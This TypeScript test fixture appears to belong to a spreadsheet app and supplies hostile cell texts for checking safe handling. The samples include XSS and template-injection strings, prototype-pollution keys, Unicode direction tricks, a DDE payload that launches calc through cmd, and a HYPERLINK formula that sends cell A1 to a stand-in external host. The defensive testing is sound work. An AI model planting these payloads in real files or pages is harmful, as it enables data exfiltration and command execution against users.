import type { CellValue } from "../../src/core/cell";

/** Texts of which a careless program makes something else: markup, formulas, names of JavaScript's own, signs that are no text. */
export const hostileTexts: readonly (readonly [what: string, text: string])[] = [
  ["markup", '<img src=x onerror="window.hurt=1">'],
  ["a script", "</script><script>window.hurt=1</script>"],
  ["an entity", "&lt;b&gt;Área&lt;/b&gt; &amp; &#60;"],
  ["a template", "${window.hurt=1} {{constructor.constructor('window.hurt=1')()}}"],
  ["a formula", '=HYPERLINK("https://elsewhere.example/?"&A1,"Área")'],
  ["a formula of a plus", "+1+cmd|'/c calc'!A0"],
  ["a formula of a minus", "-2+3"],
  ["a formula of an at", "@SUM(A1:A9)"],
  ["an array formula", "{=1+1}"],
  ["an apostrophe", "'=1+1"],
  ["a name of every object", "__proto__"],
  ["another", "constructor"],
  ["a third", "toString"],
  ["a fourth", "hasOwnProperty"],
  ["something like a number", "00123"],
  ["something like a date", "1-2"],
  ["something like an error", "#REF! de área"],
  ["a control character", "Área\u0001 de\u000b control\u001f"],
  ["marks of direction", "Área \u202egnorw\u202c \u200f(\u05d0)\u200e"],
  ["half a character", "Área \ud83d partida"],
  ["the other half", "\ude00 Área"],
  ["line ends", "Área\r\nde\nlíneas"],
  ["the longest text of a cell", `=${"ñ".repeat(32_766)}`],
];

/** A working document in which each text stands in every cell that takes one, with a due date that has passed. */
export const hostileRows = (texts: readonly string[]): readonly (readonly CellValue[])[] =>
  texts.map((text, index) => [`${index + 1}`, text, text, text, 42185, text, text]);
